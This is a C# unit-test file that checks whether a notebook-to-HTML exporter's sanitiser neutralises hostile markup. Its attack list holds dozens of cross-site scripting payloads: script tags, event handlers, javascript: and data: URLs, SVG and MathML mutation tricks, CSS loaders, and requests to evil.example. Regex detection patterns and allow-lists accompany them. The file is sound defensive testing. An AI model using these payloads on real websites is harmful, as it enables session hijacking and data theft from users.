using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using Viva.Notebooks.Documents;
using Viva.Notebooks.Export;
using Viva.Notebooks.Export.Pages;

namespace Viva.Notebooks.Tests.Export.Pages;

/// <summary>Someone else's notebook: what it brings stays harmless, as a browser's parser reads the page.</summary>
public partial class HostileTests
{
    // Independent of the filter's lists: what may be in a page at all.
    private static readonly HashSet<string> Elements =
    [
        .. """
            html head body meta title link style header main nav section article aside footer div span p a b i
            u s em strong small sub sup big tt code pre kbd samp var q cite abbr dfn mark del ins strike time
            data
            h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table caption thead tbody tfoot tr th td colgroup col figure
            figcaption img br hr wbr blockquote details summary center address bdi bdo ruby rp rt progress
            meter hgroup button script
            math semantics annotation mi mn mo mtext mspace mrow mfrac msqrt mroot mstyle mpadded mphantom
            msub msup msubsup munder mover munderover mtable mtr mtd
            svg g path text tspan rect line circle ellipse polyline polygon image desc defs linearGradient radialGradient stop clipPath
            """.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries),
    ];

    private static readonly HashSet<string> Attributes =
    [
        .. """
            id class style title lang dir role hidden tabindex type href src alt width height colspan rowspan
            scope headers abbr align valign span start reversed value open datetime max min low high optimum
            name content http-equiv charset rel defer data-plotly xmlns display encoding mathvariant mathcolor
            stretchy fence symmetric form lspace rspace minsize maxsize movablelimits accent accentunder
            displaystyle scriptlevel linethickness
            viewBox d x y x1 x2 y1 y2 cx cy r rx ry fx fy dx dy points fill fill-rule fill-opacity stroke
            stroke-width stroke-opacity stroke-dasharray stroke-dashoffset stroke-linecap stroke-linejoin
            stroke-miterlimit
            opacity transform text-anchor dominant-baseline font-size font-weight font-style font-family
            offset stop-color stop-opacity gradientUnits gradientTransform spreadMethod clip-path clip-rule
            clipPathUnits preserveAspectRatio
            """.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries),
    ];

    private const string Pixel =
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    public static TheoryData<string> Attacks =>
        [
            "<script>alert(1)</script>",
            "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
            "<script type=module>import 'https://evil.example/x.js'</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/pixel.png\" alt=\"a pixel\">",
            "<img srcset=\"https://evil.example/a.png 2x\" src=\"" + Pixel + "\" sizes=1 loading=lazy>",
            "<picture><source srcset=https://evil.example/a.webp><img src=//evil.example/a.png></picture>",
            "<p onclick=alert(1) onmouseover='alert(1)' ONFOCUS=alert(1) tabindex=1 autofocus>text</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" &#14; java&#9;script&#10;:alert(1)\">x</a>",
            "<a href=\"JAVASCRIPT&colon;alert(1)\">x</a>",
            "<a href='vbscript:msgbox(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
            "<a href='file:///etc/passwd'>x</a>",
            "<a href='//evil.example/x' target=_blank ping=https://evil.example/ping download>x</a>",
            "<a href='\\\\evil.example\\x'>x</a>",
            "<a href='blob:https://evil.example/1'>x</a>",
            "[x](javascript:alert(1)) ![x](javascript:alert(1)) [x](<data:text/html,a>) ![pixel](https://evil.example/p.png) "
                + "<javascript:alert(1)>",
            "[x]: javascript:alert(1)\n\n[x] ![x]",
            "<svg onload=alert(1)><script>alert(1)</script><g onclick=alert(1)><path d='M0 0'/></g></svg>",
            "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src=https://evil.example></iframe></body>"
                + "</foreignObject></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /><a "
                + "href='#'><text>x</text></a></svg>",
            "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/>"
                + "<use xlink:href='https://evil.example/a.svg#x'/></svg>",
            "<svg><image href='https://evil.example/a.png'/><image xlink:href='https://evil.example/a.png'/><feImage "
                + "href='https://evil.example/a.png'/></svg>",
            "<svg><rect fill='url(https://evil.example/a.svg#x)' clip-path='url(//evil.example/a)' "
                + "filter='url(https://evil.example/f)' style='fill:url(https://evil.example/a)'/></svg>",
            "<svg><rect fill='u\\72l(https://evil.example/a)' cursor='url(https://evil.example/a)' "
                + "mask='image(\"https://evil.example\")'/></svg>",
            "<svg><style>@import 'https://evil.example/x.css';*{background:url(https://evil.example)}</style></svg>",
            "<svg><title><img src=x onerror=alert(1)></title><desc><script>alert(1)</script></desc></svg>",
            "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
            "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
            "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><mi xlink:href='javascript:alert(1)' href=javascript:alert(1)>x</mi><maction "
                + "actiontype='statusline#https://evil.example'>y</maction></math>",
            "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
            "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
            "<select><style></select><img src=x onerror=alert(1)></style></select>",
            "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
            "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
            "<style>@import url(https://evil.example/x.css); body{display:none}</style><link rel=stylesheet "
                + "href=https://evil.example/x.css>",
            "<div style=\"background:url(https://evil.example/a.png);position:fixed;inset:0;z-index:99;"
                + "width:expression(alert(1));color:red\">over</div>",
            "<div style=\"background-image:\\75rl(https://evil.example/a);margin:-900px;behavior:url(x.htc);-moz-binding:url(x)\">x</div>",
            "<div style='list-style:url(https://evil.example);content:url(x);cursor:url(x),auto;mask:url(x);src:url(x);"
                + "background:image-set(\"https://evil.example/a.png\" 1x)'>x</div>",
            "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/><base target=_top>",
            "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
            "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe><frameset><frame "
                + "src=https://evil.example></frameset>",
            "<object data=https://evil.example/x.swf type=text/html><embed src=https://evil.example></object><applet code=x>"
                + "</applet><portal src=https://evil.example>",
            "<form action=https://evil.example method=post><input name=a autofocus onfocus=alert(1)><button "
                + "formaction=javascript:alert(1)>send</button><select><option>x</select></form>",
            "<video src=https://evil.example/a.mp4 poster=https://evil.example/p.png autoplay></video><audio "
                + "src=https://evil.example/a.mp3 autoplay></audio><bgsound src=https://evil.example>",
            "<table background=https://evil.example/a.png><tr><td background=https://evil.example/b.png>x</td></tr></table>"
                + "<body background=https://evil.example onload=alert(1)>",
            "<a id=content name=getElementById>x</a><img name=querySelector src="
                + Pixel
                + "><a id=vivaIndex></a><a id=Plotly></a><p id=module></p><p id=exports></p><p id='cell-1'></p><p id='a\"b'></p>",
            "<div class='deck search results contents theme turn skip'><main id=content><nav class=contents><a href='#x'>x</a>"
                + "</nav></main></div>",
            "<input type=search class=search><dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><keygen autofocus "
                + "onfocus=alert(1)><isindex action=javascript:alert(1)>",
            "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'><img "
                + "src='data:text/html,<script>alert(1)</script>'><img src='DATA:image/png,x'>",
            "<x-element onclick=alert(1) data-plotly=https://evil.example/plotly.js slot=x is=x>text</x-element>",
            "<b <script>alert(1)</script>0</b> <img src=x` onerror=alert(1)> <img/src=x/onerror=alert(1)> <<script>alert(1)//<</script>",
            "<img \"\"\"><script>alert(1)</script>\"> <a href=x\"y'>$z$<b '> <a x\"=\"$z$\"> <img alt=\"$x$\" ",
            "<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> --> <?php <img src=x onerror=alert(1)> ?> "
                + "<![if IE]><script>alert(1)</script><![endif]>",
            "<p>\ue0000\ue001 \ue000"
                + "0.0\ue001 <img alt='\ue0000\ue001' src="
                + Pixel
                + "> $x$</p>\n\n$y$ ![$z$]("
                + Pixel
                + " \"$t$\")",
            "$\\text{<script>alert(1)</script>}$ $\\text{\"><img src=x onerror=alert(1)>}$ $\\color{red}</annotation>"
                + "<script>alert(1)</script>$",
            "```html\n<script>alert(1)</script>\n```\n\n```\"><script>alert(1)</script>\nx\n```\n\n`<img src=x onerror=alert(1)>`",
            "# <img src=x onerror=alert(1)> Title <a href=javascript:alert(1)>x</a> \"'><script>alert(1)</script>",
            "<textarea>\n\n# A heading that goes\n\n</textarea>\n\n<p id=\"after\">x</p>\n\n## After </h2><script>alert(1)</script>",
            "</div></main></body></html><script>alert(1)</script><div>",
            "<table><tr><td></table><img src=x onerror=alert(1)></td></tr><table border=1><tr><td>x</td></tr></table></table></div></div>",
            "<script type=\"application/vnd.viva.figure+json\">{\"data\":[],\"layout\":{\"title\":\"</script>"
                + "<script>alert(1)</script>\"}}</script>",
            "<script type=\"application/vnd.viva.figure+json\">"
                + "{\"data\":[{\"type\":\"scatter\",\"name\":\"\\u003c/script>\\u003cscript>alert(1)//\"}],"
                + "\"layout\":{\"images\":[{\"source\":\"https://evil.example/a.png\"}],\"__proto__\":{\"polluted\":1}}}</script>",
            "<script type=\"application/vnd.viva.figure+json\">{\"data\":[{\"type\":\"choropleth\"}],\"layout\":{}}</script>",
            "<script type=\"application/vnd.viva.figure+json\">"
                + "{\"data\":[{\"type\":\"image\",\"source\":\"https://evil.example/a.png\"},{\"type\":7}],\"layout\":{}}</script>",
            "<script type=\"application/vnd.viva.figure+json\">alert(1)</script>"
                + "<script type=\"application/vnd.viva.figure+json\">{\"data\":[],\"data\":[],\"layout\":{}}</script>",
            "<script type=\"application/vnd.viva.figure+json\" src=https://evil.example/x.js "
                + "onload=alert(1)>{\"data\":[],\"layout\":{}}</script>",
        ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_leaves_only_what_shows(string attack)
    {
        foreach (
            var html in (string[])
                [
                    new HtmlFilter(trusted: false).Clean(attack),
                    new MarkdownHtml("a.ipynb", new HtmlFilter(trusted: false), address => address).Render(attack, 1),
                ]
        )
        {
            AssertHarmless(html, "<main>" + html + "</main>");
            // Written out and read again, as browsers and tools do, it is still the same.
            var once = new HtmlParser().ParseDocument("<main>" + html + "</main>").Body!.InnerHtml;
            AssertHarmless(html, new HtmlParser().ParseDocument(once).Body!.InnerHtml);
        }
    }

    [Fact]
    public void Every_attack_in_every_place_leaves_the_page_harmless()
    {
        var attacks = Attacks.Select(row => row.Data).ToList();
        var document = Notebook();
        document.Insert(0, NotebookCell.Create(CellKind.Markdown, "# <script>alert(1)</script> \"Title\" & <b onclick=alert(1)>more</b>"));
        foreach (var attack in attacks)
        {
            document.Add(NotebookCell.Create(CellKind.Markdown, attack));
            document.Add(
                NotebookCell.Create(CellKind.Markdown, "<details><summary>" + attack + "</summary>\n\n" + attack + "\n\n</details>")
            );
            var cell = NotebookCell.Create(
                CellKind.Code,
                "var x = 1; // </code></pre><script>alert(1)</script>",
                null,
                "exercise",
                "\"><script>alert(1)</script>"
            );
            cell.Outputs.Add(NotebookOutput.Stream("stdout", attack));
            cell.Outputs.Add(NotebookOutput.Stream("stderr", string.Concat(Enumerable.Repeat(attack + "\n", 80))));
            cell.Outputs.Add(NotebookOutput.Error(attack, attack, [attack]));
            foreach (
                var type in (string[])
                    [
                        "text/html",
                        "image/svg+xml",
                        "text/markdown",
                        "text/plain",
                        "image/png",
                        "application/json",
                        "application/javascript",
                        "text/latex",
                    ]
            )
            {
                cell.Outputs.Add(NotebookOutput.DisplayData([KeyValuePair.Create<string, JsonNode?>(type, attack)]));
            }

            cell.Outputs.Add(
                NotebookOutput.DisplayData([
                    KeyValuePair.Create<string, JsonNode?>("image/png", "iVBORw0KGgo="),
                    KeyValuePair.Create<string, JsonNode?>("text/plain", attack),
                ])
            );
            document.Add(cell);
        }

        foreach (var singleFile in (bool[])[false, true])
        {
            var pages = Exported(document, singleFile);
            foreach (var (name, page) in pages.Where(pair => pair.Key.EndsWith(".html", StringComparison.Ordinal)))
            {
                AssertHarmless(name, page, own: true);
            }
            // The page's scripts are those of a page without any attack.
            var plain = Exported(Notebook(), singleFile);
            Assert.Equal(
                Scripts(plain["a.html"]),
                Scripts(pages["a.html"])
                    .Where(script => !script.Contains("Plotly", StringComparison.Ordinal) || singleFile)
                    .TakeLast(Scripts(plain["a.html"]).Count)
            );
        }
    }

    [Fact]
    public void Any_mixture_of_markup_stays_harmless()
    {
        string[] pieces =
        [
            "<svg>",
            "</svg>",
            "<math>",
            "</math>",
            "<style>",
            "</style>",
            "<p>",
            "</p>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<title>",
            "</title>",
            "<desc>",
            "<foreignObject>",
            "<mtext>",
            "<mglyph>",
            "<annotation-xml encoding=text/html>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "\"",
            "'",
            ">",
            "<a title=\"",
            "<img src=x onerror=alert(1)>",
            "<script>",
            "</script>",
            "<noscript>",
            "</noscript>",
            "<form>",
            "</form>",
            "<select>",
            "<textarea>",
            "</textarea>",
            "<template>",
            "</template>",
            "<b>",
            "</b>",
            "<h2>",
            "</h2>",
            "<a href=\"javascript:alert(1)\">",
            "</a>",
            "$x$",
            "text",
            "<iframe>",
            "</iframe>",
            "<g title='</style>'>",
            "<xmp>",
            "<br>",
            "</br>",
            "\n\n",
        ];
        Gen.Int[0, pieces.Length - 1]
            .Array[1, 14]
            .Sample(
                choice =>
                {
                    var source = string.Concat(choice.Select(i => pieces[i]));
                    string html;
                    try
                    {
                        html = new MarkdownHtml("a.ipynb", new HtmlFilter(trusted: false), address => address).Render(source, 1);
                    }
                    catch (NotebookException)
                    {
                        return; // a formula that markup cut in two
                    }

                    AssertHarmless(source, "<main>" + html + "</main>");
                    AssertHarmless(source, new HtmlParser().ParseDocument("<main>" + html + "</main>").Body!.InnerHtml);
                },
                iter: 5_000
            );
    }

    [Fact]
    public void With_trust_the_notebooks_own_HTML_stays_as_it_is()
    {
        const string Own = "<div onclick=\"go()\" class=\"own\"><script>go();</script><img src=\"https://example.org/a.png\"></div>";
        Assert.Equal(Own, new HtmlFilter(trusted: true).Clean(Own));
        Assert.Equal(Own, new MarkdownHtml("a.ipynb", new HtmlFilter(trusted: true), address => address).Render(Own, 1).Trim());
    }

    [Fact]
    public void A_picture_elsewhere_becomes_a_link_with_its_words()
    {
        var html = new MarkdownHtml("a.ipynb", new HtmlFilter(trusted: false), address => address).Render(
            "![A cat & a dog](https://example.org/cat.png) [![Badge](https://example.org/b.svg)](https://example.org) ![Local](cat.png)",
            1
        );
        Assert.Equal(
            "<p><a href=\"https://example.org/cat.png\">A cat &amp; a dog</a> <a href=\"https://example.org\"><em>Badge</em>"
                + "</a> <em>Local</em></p>",
            html.Trim()
        );
    }

    [Fact]
    public void A_plain_value_that_the_kernel_dressed_up_as_HTML_is_text_again()
    {
        var output = NotebookOutput.DisplayData([
            KeyValuePair.Create<string, JsonNode?>(
                "text/html",
                "<div class=\"dni-plaintext\"><pre>&lt;b&gt; 2</pre></div><style>\r\ntable td { color: red }\r\n</style>"
            ),
        ]);
        Assert.Equal("<pre class=\"value\">&lt;b&gt; 2</pre>", new OutputHtml(new HtmlFilter(trusted: false), text => text).Render(output));
    }

    [Fact]
    public void A_huge_picture_is_left_out_with_a_word()
    {
        var huge = "data:image/png;base64," + new string('A', 9_000_000);
        Assert.Equal("<em>Big</em>", new HtmlFilter(trusted: false).Clean($"<img alt=\"Big\" src=\"{huge}\">"));
        var output = NotebookOutput.DisplayData([
            KeyValuePair.Create<string, JsonNode?>("image/png", new string('A', 9_000_000)),
            KeyValuePair.Create<string, JsonNode?>("text/plain", "A bitmap"),
        ]);
        Assert.Equal(
            "<pre class=\"value\">A bitmap (9 MB, left out)</pre>",
            new OutputHtml(new HtmlFilter(trusted: false), text => text).Render(output)
        );
    }

    [Fact]
    public void Deep_nesting_ends_in_good_time()
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        foreach (var tag in (string[])["div", "b", "svg", "ul", "section", "details"])
        {
            var html = new HtmlFilter(trusted: false).Clean(string.Concat(Enumerable.Repeat($"<{tag}>", 3_000)) + "x");
            Assert.True(html.Length < 20_000, $"{tag}: {html.Length}");
        }

        Assert.True(watch.Elapsed.TotalSeconds < 30, $"{watch.Elapsed.TotalSeconds} s");
    }

    [Fact]
    public void What_a_figure_of_this_project_needs_passes()
    {
        const string Figure =
            "<figure class=\"viva\" role=\"img\" aria-label=\"A chart\" style=\"margin:.5em 0;max-width:760px\"><figcaption "
            + "style=\"font-weight:600\">Loss</figcaption>"
            + "<div style=\"overflow:hidden\"><svg viewBox=\"0 0 10 10\" width=\"10\" font-size=\"3\" fill=\"currentColor\" "
            + "aria-hidden=\"true\"><path d=\"M0 0L1 1\" stroke=\"#0072B2\" fill=\"none\" stroke-width=\"1.5\"/>"
            + "<image x=\"1\" y=\"1\" width=\"5\" height=\"5\" preserveAspectRatio=\"none\" style=\"image-rendering:pixelated\" href=\""
            + Pixel
            + "\"/><text x=\"1\" y=\"1\" transform=\"rotate(-90 1 1)\" text-anchor=\"middle\">Loss &amp; cost</text></svg></div>"
            + "<small></small><script type=\"application/vnd.viva.figure+json\">"
            + "{\"data\":[{\"type\":\"scatter\",\"y\":[1,2]}],\"layout\":{},\"height\":360}</script>"
            + "</figure>";
        Assert.Equal(Figure, new HtmlFilter(trusted: false).Clean(Figure));
    }

    [Fact]
    public void What_pictures_with_a_slider_need_passes_without_their_script()
    {
        const string Slides =
            "<div class=\"slides\" role=\"group\" aria-label=\"Two pictures\" style=\"max-width:1080px\"><div role=\"group\" "
            + "aria-label=\"step\" "
            + "style=\"display:grid;grid-template-columns:repeat(auto-fill,minmax(min(100%,220px),1fr));gap:0 1em\">"
            + "<figure style=\"margin:.5em 0;min-width:0\"><figcaption style=\"font-weight:600;margin:.2em 0\">0</figcaption>"
            + "<div role=\"img\" aria-label=\"A point\"><svg viewBox=\"0 0 10 10\" width=\"100%\"><path stroke=\"#0072B2\" "
            + "stroke-opacity=\"0.7\" stroke-width=\"4.2\" stroke-linecap=\"round\" d=\"M1 1h0\"/></svg></div></figure></div>"
            + "</div>";
        Assert.Equal(Slides, new HtmlFilter(trusted: false).Clean(Slides + "<script>(()=>{})();</script>"));
        Assert.Equal("<div class=\"slides\">x</div>", new HtmlFilter(trusted: false).Clean("<div class='slides on steps at'>x</div>"));
    }

    [Fact]
    public void Styles_keep_what_only_shows() =>
        Assert.Equal(
            "<p style=\"color:rgb(1, 2, "
                + "3);display:grid;grid-template-columns:repeat(auto-fill,minmax(110px,1fr));font-family:&quot;DejaVu Sans&quot;, "
                + "serif;width:calc(100% - 2em);border:1px solid var(--line)\">x</p>",
            new HtmlFilter(trusted: false).Clean(
                "<p style='Color: rgb(1, 2, 3); display:grid; grid-template-columns:repeat(auto-fill,minmax(110px,1fr)); "
                    + "font-family:\"DejaVu Sans\", serif; position:absolute; top:0; width:calc(100% - 2em); border:1px solid "
                    + "var(--line); --x: 1'>x</p>"
            )
        );

    [Theory]
    [InlineData("<a href=\"#The-Short-Answer\">x</a>", "<a href=\"#the-short-answer\">x</a>")]
    [InlineData("<a id=\"My-Place\">x</a>", "<a id=\"my-place\">x</a>")]
    [InlineData("<a href=\"other.html?a=1&amp;b=2\">x</a>", "<a href=\"other.html?a=1&amp;b=2\">x</a>")]
    [InlineData("<a href=\"https://example.org/A#B\">x</a>", "<a href=\"https://example.org/A#B\">x</a>")]
    [InlineData("<a href=\"//example.org/a\">x</a>", "<a href=\"https://example.org/a\">x</a>")]
    [InlineData("<a href=\"mailto:a@example.org\">x</a>", "<a href=\"mailto:a@example.org\">x</a>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>")]
    [InlineData("<pre>\n\nx</pre>", "<pre>\n\nx</pre>")]
    [InlineData("<nav><b>x</b></nav>", "<div><b>x</b></div>")]
    [InlineData("a < b & c", "a &lt; b &amp; c")]
    public void Harmless_HTML_keeps_its_meaning(string html, string expected) =>
        Assert.Equal(expected, new HtmlFilter(trusted: false).Clean(html));

    /// <summary>Asserts on the document that a browser's parser makes of a page or a part of it.</summary>
    internal static void AssertHarmless(string what, string html, bool own = false)
    {
        foreach (var element in new HtmlParser().ParseDocument(html).All)
        {
            var outer = element.OuterHtml.Length > 300 ? element.OuterHtml[..300] : element.OuterHtml;
            var place = $"{outer}\n\nin what became of {(what.Length > 500 ? what[..500] : what)}";
            var name = element.LocalName;
            var page = own && element.Closest("main") is null;
            Assert.True(Elements.Contains(name) || (own && name is "input" or "label"), $"<{name}>: {place}");
            Assert.True(name is not ("meta" or "link" or "style" or "base") || page, $"<{name}>: {place}");
            Assert.True(name != "title" || page || element.NamespaceUri == NamespaceNames.SvgUri, place);
            Assert.True(
                name != "script" || page || (element.GetAttribute("type") == HtmlFilter.FigureType && element.Attributes.Length == 1),
                place
            );
            Assert.True(name != "button" || own, place);
            foreach (var attribute in element.Attributes)
            {
                var key = attribute.Name;
                Assert.True(
                    Attributes.Contains(key)
                        || key.StartsWith("aria-", StringComparison.Ordinal)
                        || (own && key is "placeholder" or "autocomplete"),
                    $"{key}: {place}"
                );
                Assert.False(key.StartsWith("on", StringComparison.OrdinalIgnoreCase), place);
                if (page && name is "meta" or "link" or "script" or "html")
                {
                    continue;
                }

                if (key is "src")
                {
                    Assert.StartsWith("data:image/", attribute.Value, StringComparison.Ordinal);
                }

                if (key is "href")
                {
                    Assert.True(
                        name == "image"
                            ? attribute.Value.StartsWith("data:image/png;base64,", StringComparison.Ordinal)
                            : Target().IsMatch(attribute.Value),
                        $"{attribute.Value}: {place}"
                    );
                }

                if (key is "style" or "fill" or "stroke" or "clip-path" or "transform")
                {
                    Assert.False(Loading().IsMatch(attribute.Value), $"{attribute.Value}: {place}");
                }

                if (key == "id" && !own)
                {
                    Assert.False(
                        attribute.Value is "content" or "module" or "exports" or "vivaIndex" or "Plotly"
                            || attribute.Value.StartsWith("cell-", StringComparison.Ordinal),
                        place
                    );
                }

                if (key == "class" && !own)
                {
                    Assert.Matches("^(viva|slides|formula|language-.*)$", attribute.Value);
                }
            }
        }

        if (own)
        {
            Assert.Single(new HtmlParser().ParseDocument(html).QuerySelectorAll("#content, main"));
        }
    }

    private static List<string> Scripts(string page) =>
        [
            .. new HtmlParser()
                .ParseDocument(page)
                .QuerySelectorAll("script")
                .Where(script => script.GetAttribute("type") != HtmlFilter.FigureType)
                .Select(script => (script.GetAttribute("src") ?? "") + script.TextContent),
        ];

    private static NotebookDocument Notebook() => NotebookDocument.Create();

    private static Dictionary<string, string> Exported(NotebookDocument document, bool singleFile)
    {
        using var folder = new TemporaryFolder();
        var path = Path.Combine(folder.Path, "a.ipynb");
        document.Write(path);
        return NotebookExporter
            .Export(
                [new ExportSource(path, folder.Path)],
                Path.Combine(folder.Path, "out"),
                new ExportOptions
                {
                    Plotly = "window.Plotly = {};"u8.ToArray(),
                    Cache = Path.Combine(folder.Path, "cache"),
                    SingleFile = singleFile,
                }
            )
            .ToDictionary(file => Path.GetFileName(file), File.ReadAllText);
    }

    [GeneratedRegex(@"^(#|https?://|mailto:|data:image/png;base64,|(?!/?[/\\]|[\w+.-]*:)[^\\<>]*$)")]
    private static partial Regex Target();

    [GeneratedRegex(
        @"url\((?!#)|expression|image\(|image-set|@import|\\|position|behavior|binding|content:|cursor|margin[^;]*[: ]-\d",
        RegexOptions.IgnoreCase
    )]
    private static partial Regex Loading();
}
